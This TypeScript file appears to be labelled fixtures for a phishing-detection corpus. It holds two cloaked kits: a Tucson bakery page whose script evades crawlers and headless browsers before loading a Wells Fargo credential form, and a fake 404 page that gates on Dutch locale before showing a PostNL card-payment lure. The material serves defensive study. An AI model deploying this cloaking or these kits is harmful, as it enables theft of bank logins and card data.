import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, b64 } from '../parts/r-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const wellsKit = `<div style="background:#d71e28;height:6px"></div><div style="background:#fff;padding:14px 40px;font:700 20px Arial;color:#d71e28;border-bottom:4px solid #ffcd41">WELLS FARGO</div>
<div style="max-width:400px;margin:40px auto;font-family:Arial;background:#fff;padding:26px;border:1px solid #ddd"><h2 style="font-weight:400">Good afternoon</h2><p style="font-size:14px">Sign on to manage your accounts. We noticed a sign-on from a new device and placed a temporary hold on online access.</p>
<form method="post" action="/c/auth/signon.php"><input name="j_username" placeholder="Username" style="width:100%;padding:10px;margin:6px 0"><input name="j_password" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;padding:11px;background:#d71e28;color:#fff;border:0;border-radius:20px">Sign on</button></form></div>`;

export const entries: Entry[] = [
{
  id: 'r-cloak-webdriver-bakery-wellsfargo',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://rosalias-bakehouse.com/c/',
  body: doc({ title: "Rosalia's Bakehouse – Fresh bread in Tucson", css: `body{margin:0;font-family:Georgia,serif;background:#fffaf2;color:#4a3b2a}header{padding:30px;text-align:center;background:#f3e2c7}main{max-width:760px;margin:auto;padding:20px}` },
`<header><h1>Rosalia's Bakehouse</h1><p>Sourdough · Conchas · Custom cakes</p></header>
<main><h2>Our hours</h2><p>Tue–Sat 7am–3pm · Sun 8am–1pm</p><h2>Weekly specials</h2><ul><li>Cranberry walnut loaf</li><li>Pan de muerto (seasonal)</li><li>Cardamom buns</li></ul><p>2121 E Broadway Blvd, Tucson AZ</p></main>
<script src="/c/js/site.js"></script>`),
  routes: {
    'rosalias-bakehouse.com/c/js/site.js': jsRoute(`(function(){
var ua=navigator.userAgent,bad=/bot|crawl|spider|headless|lighthouse|python|curl|wget|phantom|selenium|puppeteer/i;
if(navigator.webdriver||bad.test(ua)||!navigator.languages||navigator.languages.length===0||screen.width<400)return;
if(document.referrer.indexOf('google.')>-1)return;
fetch('/c/js/tpl.json?r='+Math.random()).then(function(r){return r.json()}).then(function(j){document.title=j.t;document.body.style.background='#f4f0ed';document.body.innerHTML=atob(j.h);});
})();`),
    'rosalias-bakehouse.com/c/js/tpl.json': jsonRoute({ t: 'Wells Fargo – Sign On', h: b64(wellsKit) }),
  },
},
{
  id: 'r-cloak-lang-tz-gate-postnl',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://pakket-track-nl.info/nl/status/3SBRK9921054',
  body: doc({ title: '404 Not Found' }, `<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.54 (Ubuntu) Server at pakket-track-nl.info Port 443</address>
<script>
(function(){var l=(navigator.language||'').toLowerCase(),tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
var ok=l.indexOf('nl')===0||tz==='Europe/Amsterdam'||tz==='Europe/Brussels'||/Windows NT|iPhone|Android/.test(navigator.userAgent);
if(!ok)return;var s=document.createElement('script');s.src='/nl/status/k.js';document.head.appendChild(s);})();
</script>`),
  routes: {
    'pakket-track-nl.info/nl/status/k.js': jsRoute(`document.title='PostNL – Uw pakket';document.body.innerHTML='<div style="background:#ff6600;color:#fff;padding:16px 8%;font:700 22px Arial">PostNL</div><div style="max-width:460px;margin:30px auto;font-family:Arial"><h2>Uw pakket kon niet worden bezorgd</h2><p>Er staat nog een verzendkosten van <b>€1,99</b> open voor zending 3SBRK9921054. Betaal binnen 24 uur om een nieuwe bezorgdag te kiezen.</p><form method="post" action="/nl/status/betalen"><select name="bank"><option>ING</option><option>Rabobank</option><option>ABN AMRO</option><option>SNS</option><option>ASN Bank</option><option>Knab</option><option>bunq</option></select><input name="naam" placeholder="Naam" style="display:block;width:100%;padding:9px;margin:6px 0"><input name="kaart" placeholder="Kaartnummer" style="display:block;width:100%;padding:9px;margin:6px 0"><input name="vervaldatum" placeholder="MM/JJ" style="display:block;width:100%;padding:9px;margin:6px 0"><input name="cvc" placeholder="CVC" style="display:block;width:100%;padding:9px;margin:6px 0"><button style="background:#ff6600;color:#fff;border:0;padding:11px 24px">Betalen</button></form></div>';`),
  },
},
];
